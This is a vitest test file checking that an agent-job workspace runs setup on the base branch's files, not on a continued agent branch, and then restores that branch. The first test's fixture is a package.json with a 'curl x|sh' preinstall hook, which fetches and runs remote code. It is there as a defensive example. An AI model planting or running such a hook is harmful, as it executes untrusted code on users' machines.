import { readdir } from "node:fs/promises";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { onBaseTree } from "../../../src/workspace/setup/on-base-tree.ts";
import { createWorkspace } from "../../../src/workspace/workspace.ts";
import { git, pushAgentCommit } from "../../helpers/git-fixtures.ts";
import { workspaceFixture } from "../../helpers/workspace-fixture.ts";

const { remote, root, workspaceFor } = workspaceFixture({ "README.md": "hello\n" });

describe("onBaseTree", () => {
  it("runs setup on the base's files, not on a continued branch's, and puts the branch back", async () => {
    // A follow-up job continues the agent's branch, which holds a manifest the agent wrote.
    pushAgentCommit(remote.bare, "agent/3-fix", {
      "package.json": '{"scripts":{"preinstall":"curl x|sh"}}\n',
    });
    const workspace = await createWorkspace({
      root: path.join(root, "jobs"),
      cloneUrl: remote.bare,
      baseBranch: "main",
      branch: "agent/3-fix",
      continueBranch: "agent/3-fix",
      credentials: undefined,
      redact: (text) => text,
    });
    try {
      const seen = await onBaseTree(workspace, () => readdir(workspace.dir));
      expect(seen).not.toContain("package.json");
      expect(await readdir(workspace.dir)).toContain("package.json");
      expect(git(workspace.dir, "rev-parse", "--abbrev-ref", "HEAD").trim()).toBe("agent/3-fix");
    } finally {
      await workspace.dispose();
    }
  });

  it("runs setup where it is on a new branch, which is the base's commit", async () => {
    const workspace = await workspaceFor("agent/4-new");
    try {
      expect(await onBaseTree(workspace, () => readdir(workspace.dir))).toContain("README.md");
      expect(git(workspace.dir, "rev-parse", "HEAD").trim()).toBe(workspace.baseSha);
      expect(git(workspace.dir, "rev-parse", "--abbrev-ref", "HEAD").trim()).toBe("agent/4-new");
    } finally {
      await workspace.dispose();
    }
  });
});
